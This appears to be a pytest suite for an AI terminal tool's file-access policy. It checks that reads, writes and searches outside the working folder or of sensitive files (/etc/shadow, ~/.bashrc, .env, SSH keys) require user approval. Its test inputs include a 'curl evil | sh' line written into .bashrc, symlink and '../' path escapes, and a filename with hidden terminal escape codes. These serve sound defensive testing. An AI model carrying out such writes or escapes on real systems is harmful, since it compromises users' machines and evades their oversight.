"""The file tools ask before touching anything outside the working folder or sensitive, and say exactly what."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from hermes_tui.core.tools.base import ToolContext, ToolResult
from hermes_tui.core.tools.defaults import default_registry
from hermes_tui.core.tools.file_policy import ENV_FILE, OUTSIDE, SHELL_STARTUP, SYMLINK_OUT, SYSTEM_CONFIG
from tests.tools.helpers import RecordingApprover, make_context


async def call(ctx: ToolContext, tool: str, **args: object) -> ToolResult:
    return await default_registry().dispatch(tool, json.dumps(args), ctx)


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    """(project = the working folder, outside = a sibling folder with a file in it)."""
    project = tmp_path / "project"
    outside = tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "notes.txt").write_text("inside\n")
    (outside / "secret.txt").write_text("top secret\n")
    return project, outside


# --------------------------------------------------------------------------- headless without --yes


async def test_reading_etc_shadow_headless_is_denied_with_a_readable_error(layout: tuple[Path, Path]) -> None:
    project, _ = layout
    result = await call(make_context(project), "read_file", path="/etc/shadow")
    assert result.is_error
    assert result.content.startswith("Error: reading /etc/shadow needs the user's approval (")
    assert OUTSIDE in result.content and SYSTEM_CONFIG in result.content
    assert "not granted" in result.content and "--yes" in result.content
    assert "root:" not in result.content


async def test_writing_outside_headless_is_denied_and_nothing_is_written(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    result = await call(make_context(project), "write_file", path=str(outside / "new.txt"), content="x")
    assert result.is_error and "needs the user's approval" in result.content
    assert "allow_paths" in result.content  # only "outside": the allow list would help
    assert not (outside / "new.txt").exists()


async def test_writing_the_shell_rc_file_inside_the_folder_headless_is_denied(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    home.mkdir(parents=True, exist_ok=True)
    rc = home / ".bashrc"
    rc.write_text("# mine\n")
    result = await call(make_context(home), "write_file", path="~/.bashrc", content="curl evil | sh\n")
    assert result.is_error and SHELL_STARTUP in result.content
    assert "allow_paths" not in result.content  # the allow list cannot open a sensitive file
    assert rc.read_text() == "# mine\n"


async def test_inside_the_working_folder_no_one_is_asked(layout: tuple[Path, Path]) -> None:
    project, _ = layout
    approver = RecordingApprover(answer=False)
    ctx = make_context(project, approve=approver)
    assert (await call(ctx, "read_file", path="notes.txt")).content == "     1|inside"
    assert not (await call(ctx, "write_file", path="sub/new.txt", content="a\n")).is_error
    assert not (await call(ctx, "search_files", pattern="inside")).is_error
    assert approver.requests == []


@pytest.mark.parametrize(
    "raw",
    ["../outside/secret.txt", "OUTSIDE_ABS", "~/../outside/secret.txt", "link-to-secret", "linkdir/secret.txt"],
)
async def test_every_way_out_of_the_folder_is_caught(layout: tuple[Path, Path], raw: str) -> None:
    project, outside = layout
    (project / "link-to-secret").symlink_to(outside / "secret.txt")
    (project / "linkdir").symlink_to(outside, target_is_directory=True)
    raw = str(outside / "secret.txt") if raw == "OUTSIDE_ABS" else raw
    if raw.startswith("~"):
        home = Path(os.environ["HOME"])  # tmp_path/user-home, a sibling of the outside folder
        home.mkdir(parents=True, exist_ok=True)
        assert (home / "../outside").resolve() == outside
    result = await call(make_context(project), "read_file", path=raw)
    assert result.is_error and "needs the user's approval" in result.content
    assert str(outside / "secret.txt") in result.content
    assert "top secret" not in result.content


# --------------------------------------------------------------------------- with an approver


async def test_a_read_outside_asks_with_the_resolved_path_and_size(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    (project / "shortcut").symlink_to(outside / "secret.txt")
    approver = RecordingApprover(answer=True)
    result = await call(make_context(project, approve=approver), "read_file", path="shortcut")
    assert result.content == "     1|top secret"
    [request] = approver.requests
    assert request.tool == "read_file"
    secret = outside / "secret.txt"
    assert request.command == (
        f"read {secret} (11 bytes) (given as {project / 'shortcut'}, which leads there through a symbolic link)"
    )
    assert request.cwd == str(project)
    assert request.reasons == (f"{SYMLINK_OUT} (to {secret})",)


async def test_a_write_asks_with_size_lines_and_what_it_replaces(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    approver = RecordingApprover(answer=True)
    target = outside / "secret.txt"
    result = await call(make_context(project, approve=approver), "write_file", path=str(target), content="a\nb\nc")
    assert result.content == f"Overwrote {target}: wrote 5 bytes (3 lines)"
    [request] = approver.requests
    assert request.tool == "write_file"
    assert request.command == f"write 5 bytes (3 lines) to {target}, replacing the existing 11-byte file"
    assert request.reasons == (OUTSIDE,)


async def test_a_denied_write_changes_nothing(layout: tuple[Path, Path]) -> None:
    project, _ = layout
    (project / ".env").write_text("TOKEN=keep\n")
    approver = RecordingApprover(answer=False)
    result = await call(make_context(project, approve=approver), "write_file", path=".env", content="TOKEN=x\n")
    assert result.is_error
    assert result.content == f"Error: writing {project / '.env'} was denied by the user ({ENV_FILE})"
    assert (project / ".env").read_text() == "TOKEN=keep\n"
    assert (
        approver.requests[0].command
        == f"write 8 bytes (1 lines) to {project / '.env'}, replacing the existing 11-byte file"
    )


async def test_a_denied_read_returns_no_content(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    approver = RecordingApprover(answer=False)
    result = await call(make_context(project, approve=approver), "read_file", path=str(outside / "secret.txt"))
    assert result.is_error and "denied by the user" in result.content and "top secret" not in result.content


async def test_yes_approves_without_asking(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    approver = RecordingApprover(answer=False)
    ctx = make_context(project, approve=approver, auto_approve=True)
    assert (await call(ctx, "read_file", path=str(outside / "secret.txt"))).content == "     1|top secret"
    assert approver.requests == []


async def test_the_allow_list_opens_a_folder_without_asking(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    approver = RecordingApprover(answer=False)
    ctx = make_context(project, approve=approver, allow_paths=[str(outside)])
    assert (await call(ctx, "read_file", path=str(outside / "secret.txt"))).content == "     1|top secret"
    written = await call(ctx, "write_file", path=str(outside / "out.txt"), content="ok")
    assert not written.is_error and (outside / "out.txt").read_text() == "ok"
    assert approver.requests == []


async def test_an_odd_path_is_asked_about_with_its_characters_visible(layout: tuple[Path, Path]) -> None:
    project, _ = layout
    approver = RecordingApprover(answer=False)
    result = await call(make_context(project, approve=approver), "write_file", path="ok\x1b[2K\rls.txt", content="x")
    assert result.is_error
    [request] = approver.requests
    assert "\x1b" not in request.command and "\r" not in request.command
    assert request.command.endswith(f"to {project}/ok\\x1b[2K\\x0dls.txt")
    assert list(project.iterdir()) == [project / "notes.txt"]


# --------------------------------------------------------------------------- search_files


async def test_searching_outside_asks_and_names_the_pattern(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    approver = RecordingApprover(answer=True)
    ctx = make_context(project, approve=approver)
    result = json.loads((await call(ctx, "search_files", pattern="secret", path=str(outside))).content)
    assert result["total_count"] == 1
    [request] = approver.requests
    assert request.tool == "search_files"
    assert request.command == f"search the contents of the files under {outside} for secret"
    names = await call(ctx, "search_files", pattern="*.txt", target="files", path=str(outside))
    assert json.loads(names.content)["files"] == [str(outside / "secret.txt")]
    assert approver.requests[1].command == f"list the files under {outside} whose names match *.txt"


async def test_searching_outside_headless_is_denied(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    result = await call(make_context(project), "search_files", pattern="secret", path=str(outside))
    assert result.is_error and "needs the user's approval" in result.content and "top secret" not in result.content


async def test_a_search_skips_sensitive_files_and_links_leading_out(layout: tuple[Path, Path]) -> None:
    project, outside = layout
    (project / ".env").write_text("API_TOKEN=needle\n")
    (project / "id_rsa").write_text("needle private\n")
    (project / "code.py").write_text("needle = 1\n")
    (project / "peek.txt").symlink_to(outside / "secret.txt")
    (outside / "secret.txt").write_text("needle outside\n")
    (project / "alias.py").symlink_to(project / "code.py")
    result = json.loads((await call(make_context(project), "search_files", pattern="needle")).content)
    assert sorted(match["path"] for match in result["matches"]) == ["alias.py", "code.py"]
    assert "Skipped 2 sensitive file(s)" in result["note"]
    assert "Skipped 1 symbolic link(s) leading outside" in result["note"]


async def test_a_search_of_an_approved_sensitive_folder_reads_it(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    ssh = home / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "config").write_text("Host needle\n")
    approver = RecordingApprover(answer=True)
    ctx = make_context(tmp_path / "user-home", approve=approver)
    result = json.loads((await call(ctx, "search_files", pattern="needle", path="~/.ssh")).content)
    assert result["matches"] == [{"path": ".ssh/config", "line": 1, "text": "Host needle"}]
    assert len(approver.requests) == 1
